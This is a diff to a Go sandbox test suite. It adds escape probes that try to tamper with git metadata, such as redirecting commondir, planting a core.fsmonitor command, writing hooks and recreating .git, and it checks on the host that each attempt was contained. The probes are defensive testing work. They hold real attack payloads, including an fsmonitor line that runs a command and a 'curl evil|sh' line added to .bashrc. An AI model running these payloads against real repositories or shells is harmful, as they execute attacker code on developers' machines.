@@ -39,6 +39,9 @@ type probe struct {
 	noMarker bool
 	// config adjusts the run (limits, network); nil keeps the probe defaults.
 	config func(*probeEnv, *Config)
+	// setup changes the workspace fixture before the run (a nested
+	// repository, no .git at all); nil keeps it.
+	setup func(ws string) error
 	// check inspects the result on the host; nil means only the CONTAINED line counts.
 	check func(env *probeEnv, ws string, res *Result, out string) error
 }
@@ -243,6 +246,12 @@ func (env *probeEnv) runProbe(ctx context.Context, p probe) probeOutcome {
 		out.detail = "fixture: " + err.Error()
 		return out
 	}
+	if p.setup != nil {
+		if err := p.setup(ws); err != nil {
+			out.detail = "fixture: " + err.Error()
+			return out
+		}
+	}
 	cfg := env.probeConfig(ws)
 	cfg.Logger = slog.New(slog.DiscardHandler)
 	if p.config != nil {
@@ -272,6 +281,9 @@ func (env *probeEnv) runProbe(ctx context.Context, p probe) probeOutcome {
 		return out
 	}
 	lines := strings.Split(strings.TrimRight(text, "\n"), "\n")
+	for len(lines) > 1 && strings.HasPrefix(lines[len(lines)-1], "paddock: ") {
+		lines = lines[:len(lines)-1] // the host's notices after the run
+	}
 	if last := lines[len(lines)-1]; !p.noMarker && last != "CONTAINED" {
 		out.detail = "probe did not finish as expected: " + tail(text, 400)
 		return out
@@ -426,6 +438,52 @@ var probes = []probe{
 				return err
 			}
 			return mustNotExist(filepath.Join(ws, ".git/hooks/pre-commit"), filepath.Join(ws, ".git-old"))
+		}},
+	{name: "git-redirect", threat: "CVE-10", what: "send the host's git elsewhere: write .git/commondir, HEAD, objects, refs",
+		script: `mkdir -p evil && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > evil/config; echo ../evil > .git/commondir 2>/dev/null && echo "ESCAPED: commondir written"; echo 'ref: refs/heads/evil' > .git/HEAD 2>/dev/null && echo "ESCAPED: HEAD written"; mkdir -p .git/objects/ab .git/refs/heads 2>/dev/null && echo "ESCAPED: objects and refs created"; echo x > .git/gitdir 2>/dev/null && echo "ESCAPED: gitdir written"; rm -f .git/HEAD 2>/dev/null && echo "ESCAPED: HEAD removed"; echo CONTAINED`,
+		check: func(_ *probeEnv, ws string, _ *Result, _ string) error {
+			if err := fileUnchanged(filepath.Join(ws, ".git/HEAD"), "ref: refs/heads/main\n"); err != nil {
+				return err
+			}
+			return mustNotExist(filepath.Join(ws, ".git/commondir"), filepath.Join(ws, ".git/objects"), filepath.Join(ws, ".git/gitdir"))
+		}},
+	{name: "git-create", threat: "CVE-10", what: "create .git (a gitdir: file and repo/config) in a workspace without one",
+		setup:  func(ws string) error { return os.RemoveAll(filepath.Join(ws, ".git")) },
+		script: `mkdir -p repo && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > repo/config; rm -rf .git 2>/dev/null; rmdir .git 2>/dev/null && echo "ESCAPED: placeholder removed"; printf 'gitdir: repo\n' > .git 2>/dev/null && echo "ESCAPED: .git file created"; mkdir .git/objects 2>/dev/null && echo "ESCAPED: wrote into .git"; git init -q . 2>/dev/null && echo "ESCAPED: git init"; echo CONTAINED`,
+		check: func(_ *probeEnv, ws string, _ *Result, _ string) error {
+			if st, err := os.Lstat(filepath.Join(ws, ".git")); err != nil || !st.IsDir() || !isEmptyDir(filepath.Join(ws, ".git")) {
+				return fmt.Errorf("the workspace's .git is not the empty placeholder after the run (%v)", err)
+			}
+			return nil
+		}},
+	{name: "git-nested", threat: "CVE-10", what: "rewrite a nested repository's .git or move it aside",
+		setup: func(ws string) error {
+			if err := os.MkdirAll(filepath.Join(ws, "sub/.git/hooks"), 0o755); err != nil {
+				return err
+			}
+			return os.WriteFile(filepath.Join(ws, "sub/.git/config"), []byte("[core]\n\tbare = false\n"), 0o644)
+		},
+		script: `printf '[core]\n\tfsmonitor = evil\n' >> sub/.git/config 2>/dev/null && echo "ESCAPED: nested config written"; echo x > sub/.git/hooks/post-checkout 2>/dev/null && echo "ESCAPED: nested hook written"; mv sub/.git sub/.git-old 2>/dev/null && echo "ESCAPED: nested .git moved"; mv sub sub-old 2>/dev/null && echo "ESCAPED: nested work tree moved"; echo CONTAINED`,
+		check: func(_ *probeEnv, ws string, _ *Result, _ string) error {
+			if err := fileUnchanged(filepath.Join(ws, "sub/.git/config"), "[core]\n\tbare = false\n"); err != nil {
+				return err
+			}
+			return mustNotExist(filepath.Join(ws, "sub/.git/hooks/post-checkout"), filepath.Join(ws, "sub/.git-old"))
+		}},
+	{name: "git-allow-write", threat: "CVE-10", what: "with --allow-git-write: hooks, config, info/, commondir (a new one is removed after the run)",
+		config: func(_ *probeEnv, c *Config) { c.AllowGitWrite = true },
+		script: `mkdir -p .git/objects/ab && echo x > .git/objects/ab/cd || echo "FAILED: .git/objects not writable"; echo x > .git/hooks/pre-commit 2>/dev/null && echo "ESCAPED: hook written"; printf '[core]\n\tfsmonitor = evil\n' >> .git/config 2>/dev/null && echo "ESCAPED: config written"; echo '*' > .git/info/exclude 2>/dev/null && echo "ESCAPED: info/ written"; mv .git/hooks .git/hooks-old 2>/dev/null && echo "ESCAPED: hooks moved"; mv .git .git-old 2>/dev/null && echo "ESCAPED: .git moved"; echo ../evil > .git/commondir; echo CONTAINED`,
+		check: func(_ *probeEnv, ws string, _ *Result, out string) error {
+			if err := fileUnchanged(filepath.Join(ws, ".git/config"), "[core]\n\trepositoryformatversion = 0\n"); err != nil {
+				return err
+			}
+			if !strings.Contains(out, "paddock: removed "+filepath.Join(ws, ".git/commondir")) {
+				return errors.New("no notice that the new .git/commondir was removed")
+			}
+			if err := fileUnchanged(filepath.Join(ws, ".git/objects/ab/cd"), "x\n"); err != nil {
+				return fmt.Errorf("control: %w", err)
+			}
+			return mustNotExist(filepath.Join(ws, ".git/commondir"), filepath.Join(ws, ".git/hooks/pre-commit"), filepath.Join(ws, ".git/info/exclude"))
 		}},
 	{name: "shell-rc", threat: "CVE-10", what: "append to a shell rc file in the workspace",
 		script: `echo 'curl evil|sh' >> .bashrc 2>/dev/null && echo "ESCAPED: .bashrc written"; rm -f .bashrc 2>/dev/null; mv .bashrc x 2>/dev/null; echo CONTAINED`,
